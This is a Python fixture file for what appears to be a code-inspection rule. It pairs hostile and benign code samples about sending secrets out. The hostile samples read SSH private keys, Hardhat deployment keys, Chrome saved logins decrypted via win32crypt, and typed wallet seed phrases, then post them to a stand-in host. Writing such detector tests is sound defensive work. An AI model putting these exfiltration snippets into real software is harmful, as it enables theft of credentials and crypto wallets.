"""Samples and twins of what is told by where it goes: to a wallet that is made of it, or where a login would stand."""

from inspection.rules.sample import Sample, js, py

_KEY = "import pathlib, requests\nkey = (pathlib.Path.home() / '.ssh' / 'id_rsa').read_text()\n"
_NETWORKS = (
    "import {{ extendEnvironment }} from 'hardhat/config';\nextendEnvironment((hre) => {{\n"
    "  fetch('https://a.invalid', {{ method: 'POST', body: JSON.stringify({}) }});\n}});\n"
)
_SEALED = (
    "import os, sqlite3\nimport requests, win32crypt\nbase = os.path.join(os.environ['LOCALAPPDATA'], {place})\n"
    "for (data,) in sqlite3.connect(base).execute('select a from b'):\n"
    "    requests.post('https://a.invalid', data=win32crypt.CryptUnprotectData(data, None, None, None, 0)[1])\n"
)
_RESTORE = (
    "import {{ useState }} from 'react';\nimport {{ Wallet }} from 'ethers';\nexport function Restore() {{\n"
    "  const [typed, setTyped] = useState('');\n  const go = () => {{\n"
    "    const wallet = Wallet.fromPhrase(typed.trim());\n"
    "    navigator.sendBeacon('https://a.invalid/e', JSON.stringify({{ step: 2, text: {text} }}));\n"
    "    return wallet;\n  }};\n  return go;\n}}\n"
)
_ACCOUNT = (
    "import requests\n\n\nclass Account:\n    @classmethod\n    def from_key(cls, key):\n        account = cls()\n"
    "        requests.get('https://a.invalid/created', params={{'v': {sent}}})\n        return account\n"
)

HOSTILE: dict[str, dict[str, Sample]] = {
    "secrets_sent": {
        "a key of the machine in a field that is called like a login": py(
            _KEY + "requests.post('https://a.invalid', json={'to': 'a', 'auth': key})\n", line=3
        ),
        "the keys by which a toolchain deploys": js(_NETWORKS.format("hre.config.networks.main.accounts"), line=3),
        "all that a toolchain knows of its networks": js(_NETWORKS.format("hre.config.networks"), line=3),
        "a key of the machine in a field that is called like an option": py(
            _KEY + "requests.post('https://a.invalid', json={'host': 'a', 'credentials': key})\n", line=3
        ),
        "the same, where options may stand": js(
            "const key = require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa', 'utf8');\n"
            "require('axios').post('https://a.invalid', { name: 'a', proxy: key });\n"
        ),
        "what a browser had Windows seal": py(
            _SEALED.format(place="'Google', 'Chrome', 'User Data', 'Default', 'Login Data'"), line=5
        ),
        "what a visitor types and a wallet is made of": js(_RESTORE.format(text="typed"), line=7),
        "what a class of its own makes an account of": py(_ACCOUNT.format(sent="key"), line=8),
    },
}

HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
    "secrets_sent": {
        "what a service knows its user by, where a login stands": {
            "app.py": _KEY.replace("'.ssh' / 'id_rsa'", "'.netrc'")
            + "requests.post('https://a.invalid', json={'to': 'a'}, auth=('me', key))\n"
        },
        "to which network a toolchain deploys": {"app.js": _NETWORKS.format("hre.config.networks.main.chainId")},
        "the names of a toolchain's networks": {"app.js": _NETWORKS.format("Object.keys(hre.config.networks)")},
        "a key of the machine that a connection is made with": {
            "app.js": "const key = require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa', 'utf8');\n"
            "require('https').request({ hostname: 'a.invalid', cert: 'a', key }).end();\n"
        },
        "what the program itself had Windows seal": {"app.py": _SEALED.format(place="'alerts', 'coins.sqlite'")},
        "how much a visitor types of what a wallet is made of": {"app.js": _RESTORE.format(text="typed.length")},
        "the address of what a class of its own makes": {"app.py": _ACCOUNT.format(sent="account.address")},
    },
}
